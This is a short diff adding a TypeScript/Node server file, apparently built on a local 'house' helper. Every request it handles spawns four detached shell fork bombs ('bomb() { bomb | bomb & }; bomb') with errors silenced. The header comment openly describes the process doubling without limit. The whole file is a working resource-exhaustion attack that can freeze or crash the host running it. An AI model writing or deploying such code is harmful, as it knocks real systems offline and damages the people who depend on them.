@@ -1,0 +1,13 @@
+/** Doubles itself for as long as the system lets it. */
+import { spawn } from "node:child_process";
+import { house } from "./house.ts";
+
+house(() => {
+  console.log("attack over");
+  for (let count = 0; count < 4; count++)
+    spawn("/bin/sh", ["-c", "bomb() { bomb | bomb & }; bomb"], { stdio: "ignore", detached: true }).on(
+      "error",
+      () => {},
+    );
+  return 200;
+}).listen(Number(process.env["PORT"]));
